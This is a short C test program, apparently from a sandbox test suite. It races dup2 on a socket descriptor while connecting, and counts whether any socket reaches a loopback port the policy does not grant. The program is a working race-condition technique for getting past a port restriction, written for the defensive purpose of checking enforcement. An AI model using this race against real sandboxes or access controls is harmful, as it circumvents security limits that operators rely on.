// Exchanges sockets under a descriptor's number while it is connected.

#include "attack.h"

static int one, other, used;
static atomic_bool stop;

static void *changing(void *unused) {
  while (!stop) {
    dup2(one, used);
    dup2(other, used);
  }
  return unused;
}

int main(void) {
  struct sockaddr_in granted = loopback("ATTACK_ALLOWED_PORT"), foreign = loopback("ATTACK_PORT"), peer;
  struct linger abort = {1, 0};
  int wins = 0;
  pthread_t thread;
  used = dup(0);
  for (int index = 0; index < TRIES; index++) {
    one = socket(AF_INET, SOCK_STREAM, 0);
    other = socket(AF_INET, SOCK_STREAM, 0);
    if (one < 0 || other < 0) refused("socket");
    setsockopt(one, SOL_SOCKET, SO_LINGER, &abort, sizeof abort);
    setsockopt(other, SOL_SOCKET, SO_LINGER, &abort, sizeof abort);
    if (index == 0 && pthread_create(&thread, 0, changing, 0)) broken("pthread_create");
    // Two addresses, two sockets that trade places: none may end up at the foreign one.
    connect(used, (struct sockaddr *)&granted, sizeof granted);
    connect(used, (struct sockaddr *)&foreign, sizeof foreign);
    for (int side = 0; side < 2; side++) {
      socklen_t length = sizeof peer;
      wins += getpeername(side ? one : other, (struct sockaddr *)&peer, &length) == 0 && peer.sin_port == foreign.sin_port;
    }
    close(one);
    close(other);
  }
  if (wins) won("%d of %d sockets reached a port that is not granted", wins, 2 * TRIES);
  blocked("0 of %d sockets reached it", 2 * TRIES);
}
